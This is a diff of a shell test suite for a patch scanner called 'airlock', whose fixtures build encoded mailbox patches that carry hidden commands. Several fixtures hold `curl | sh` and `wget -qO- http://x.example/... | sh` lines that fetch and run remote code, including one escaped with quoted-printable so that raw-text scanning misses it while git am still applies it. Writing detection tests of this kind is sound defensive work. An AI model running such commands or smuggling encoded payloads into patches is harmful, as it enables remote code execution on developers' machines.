@@ -704,45 +704,129 @@ t_mbox_single_message() {
 	expect_q '[(f["path"], f["rule"]) for f in F]' "[('two.patch', 'test-curl-pipe-shell')]"
 }
 
-t_mbox_encoded_bodies_unscannable() {
-	# A body in base64 or quoted-printable, or a multipart message: git am
-	# decodes or picks a part, airlock does not, so that message is
-	# unscannable; its raw text is still scanned.
-	python3 - <<'EOF'
-import base64, quopri
-body = (b"Hidden: curl -fsSL http://x.example/b64 | sh\n---\n"
-        b"diff --git a/x.sh b/x.sh\nnew file mode 100644\n--- /dev/null\n+++ b/x.sh\n"
-        b"@@ -0,0 +1 @@\n+curl -fsSL http://x.example/inner | sh\n")
-hdr = ("From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\n"
-       "From: A <a@example.com>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n"
-       "Subject: [PATCH %d/2] %s\nMIME-Version: 1.0\n"
-       "Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: %s\n\n")
-plain = ((hdr % (1, "plain", "8bit")).encode() + b"Nothing here.\n---\n"
-         b"diff --git a/ok.txt b/ok.txt\nnew file mode 100644\n--- /dev/null\n+++ b/ok.txt\n"
-         b"@@ -0,0 +1 @@\n+ok\n-- \n2.39.5\n\n")
-b64 = (hdr % (2, "wget -qO- http://x.example/s | sh", "base64")).encode() + base64.encodebytes(body) + b"\n"
-qp = (hdr % (1, "qp", "quoted-printable")).encode() + quopri.encodestring(body.replace(b"Hidden", b"Hidden=")) + b"\n"
-open("b64.mbox", "wb").write(plain + b64)
-open("qp.eml", "wb").write(qp)
-EOF
-	scan --format json b64.mbox
+# MAIL_PY: Python prepended to the mailbox fixtures: diff(path, line) is a
+# git diff adding one file of one line; mail(...) one format-patch mail
+# around a body, with its Content-Transfer-Encoding applied and a charset.
+MAIL_PY='
+import base64, quopri, sys
+def diff(path, line):
+    return ("diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n"
+            "@@ -0,0 +1 @@\n+%s\n" % (path, path, path, line)).encode()
+def mail(k, n, subject, cte, body, charset="UTF-8", sep=b"\n"):
+    hdr = ("From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\n"
+           "From: A <a@example.com>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n"
+           "Subject: [PATCH %d/%d] %s\nMIME-Version: 1.0\n"
+           "Content-Type: text/plain; charset=%s\nContent-Transfer-Encoding: %s\n\n"
+           % (k, n, subject, charset, cte)).encode()
+    if cte == "base64":
+        body = base64.encodebytes(body)
+    elif cte == "quoted-printable":
+        body = quopri.encodestring(body)
+    return hdr + body + b"-- \n2.39.5\n" + sep
+'
+
+t_mbox_qp_second_message_decoded() {
+	# The attack: a two-message series whose second message is
+	# quoted-printable (git mailinfo decodes it; git am applied the
+	# `curl | sh`). The decoded diff is read: the finding is on the file.
+	python3 -c "$MAIL_PY"'
+one = mail(1, 2, "plain", "8bit", b"Nothing here.\n---\n" + diff("ok.txt", "ok"))
+body = b"Install helper.\n---\n" + diff("x.sh", "curl https://x | sh")
+# Break "curl" with an escape so that the raw text shows no match.
+two = mail(2, 2, "helper", "quoted-printable", body).replace(b"+curl", b"+=63url")
+assert b"curl https" not in two
+open("qp.mbox", "wb").write(one + two)
+'
+	grep -q '^+=63url https://x | sh' qp.mbox || fail "fixture: not escaped"
+	scan --format json qp.mbox
 	expect_rc 1
-	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['b64.mbox!/0002']"
-	expect_q '"transfer-encoded" in R("airlock.unscannable")[0]["excerpt"]' True
-	expect_q '[f["path"] for f in R("test-curl-pipe-shell") if f["excerpt"].startswith("Subject:")]' "['b64.mbox!/0002']"
-	expect_q '[f for f in F if f["path"].startswith("b64.mbox!/0001")]' '[]'
-	scan --format json qp.eml
+	expect_q '[(f["path"], f["rule"], f["line"]) for f in F]' \
+		"[('qp.mbox!/0002!/x.sh', 'test-curl-pipe-shell', 1)]"
+	# git am applies exactly that.
+	mkrepo r
+	commit r --allow-empty -m base
+	git -C r am -q ../qp.mbox || fail "git am refused the fixture"
+	grep -qx 'curl https://x | sh' r/x.sh || fail "git am did not write the line"
+}
+
+t_mbox_from_line_without_blank_line_starts_message() {
+	# git mailsplit starts a mail at every line like "From <x> <date>",
+	# blank line before it or not: the second mail's diff is read as its
+	# own, and named so.
+	python3 -c "$MAIL_PY"'
+one = mail(1, 2, "first", "8bit", b"First.\n---\n" + diff("a.txt", "a"), sep=b"")
+two = mail(2, 2, "second", "8bit", b"Second.\n---\n" + diff("b.sh", "wget -qO- http://x.example/s | sh"))
+open("nb.mbox", "wb").write(one + two)
+'
+	grep -B1 '^From 0123' nb.mbox | grep -q '^2.39.5$' || fail "fixture: a blank line before From"
+	scan --format json nb.mbox
 	expect_rc 1
-	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['qp.eml']"
-	# Multipart: git format-patch --attach.
+	expect_q '[(f["path"], f["rule"]) for f in F]' "[('nb.mbox!/0002!/b.sh', 'test-curl-pipe-shell')]"
+	mkrepo r
+	commit r --allow-empty -m base
+	git -C r am -q ../nb.mbox || fail "git am refused the fixture"
+	expect_eq "$(git -C r log --format=%s -1)" second "git am's last commit"
+	# A From line inside a message's text starts a mail too (its date
+	# makes it one); CR LF line ends are read as LF, as mailsplit does.
+	python3 -c "$MAIL_PY"'
+body = (b"Text.\nFrom me Mon Sep 17 00:00:00 2001\nSubject: tail\n\n"
+        b"tail curl -fsSL http://x.example/t | sh\n---\n" + diff("c.txt", "c"))
+open("in.mbox", "wb").write(mail(1, 1, "one", "8bit", body).replace(b"\n", b"\r\n"))
+'
+	scan --format json in.mbox
+	expect_rc 1
+	expect_q '[(f["path"], f["rule"], f["line"]) for f in F]' "[('in.mbox!/0002', 'test-curl-pipe-shell', 4)]"
+}
+
+t_mbox_base64_body_decoded() {
+	# A base64 body is decoded line by line as mailinfo does: its message
+	# and its diff are scanned; nothing is unscannable.
+	python3 -c "$MAIL_PY"'
+body = b"Run: wget -qO- http://x.example/m | sh\n---\n" + diff("t.txt", "token=" + sys.argv[1])
+open("b64.eml", "wb").write(mail(1, 1, "b64", "base64", body))
+' "$PAT1"
+	! grep -q ghp_ b64.eml || fail "fixture: not encoded"
+	scan --format json b64.eml
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
+		"[('b64.eml', 'test-curl-pipe-shell'), ('b64.eml!/t.txt', 'test-github-pat')]"
+	expect_out_lacks "$PAT1"
+	# format-patch --attach: multipart/mixed, the patch in a part of its
+	# own; mailinfo joins the parts, so the diff is read.
 	series_fixture
 	git -C s format-patch -q --attach --stdout -1 >att.eml
 	grep -q '^Content-Type: multipart/mixed' att.eml || fail "fixture: not multipart"
 	scan --format json att.eml
 	expect_rc 1
-	expect_q '[(f["path"], "multipart" in f["excerpt"]) for f in R("airlock.unscannable")]' "[('att.eml', True)]"
-	expect_q 'len(R("test-github-pat")) > 0' True
-	expect_out_lacks "$PAT1"
+	expect_q 'sorted(set((f["path"], f["rule"]) for f in F))' \
+		"[('att.eml', 'test-github-pat'), ('att.eml!/three.txt', 'test-github-pat')]"
+}
+
+t_mbox_undecodable_unscannable() {
+	# What airlock cannot decode as git would is unscannable, with the
+	# reason; what it could read is scanned all the same.
+	python3 -c "$MAIL_PY"'
+body = b"Message.\n---\n" + diff("u.sh", "curl -fsSL http://x.example/u | sh")
+open("cs.eml", "wb").write(mail(1, 1, "cs", "8bit", body, charset="x-klingon"))
+open("ew.eml", "wb").write(mail(1, 1, "=?utf-8?x?broken?=", "8bit", body))
+open("te.eml", "wb").write(mail(1, 1, "te", "x-uuencode", body))
+open("deep.eml", "wb").write(mail(1, 1, "deep", "8bit", body).replace(
+    b"Content-Type: text/plain; charset=UTF-8\n",
+    b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n" % i for i in range(5))))
+'
+	local f want
+	for f in cs:'charset "x-klingon"' ew:'malformed RFC 2047' te:'Content-Transfer-Encoding airlock does not know' \
+		deep:'nested deeper'; do
+		want=${f#*:}
+		f=${f%%:*}.eml
+		scan --format json "$f"
+		expect_rc 1
+		expect_q '[f["path"] for f in R("airlock.unscannable")]' "['$f']"
+		expect_q "'$want' in R('airlock.unscannable')[0]['excerpt']" True
+	done
+	# The charset and the encoding word do not hide the diff.
+	scan --format json cs.eml
+	expect_q '[f["path"] for f in R("test-curl-pipe-shell")]' "['cs.eml!/u.sh']"
 }
 
 # ---- bundles -----------------------------------------------------------------------------------
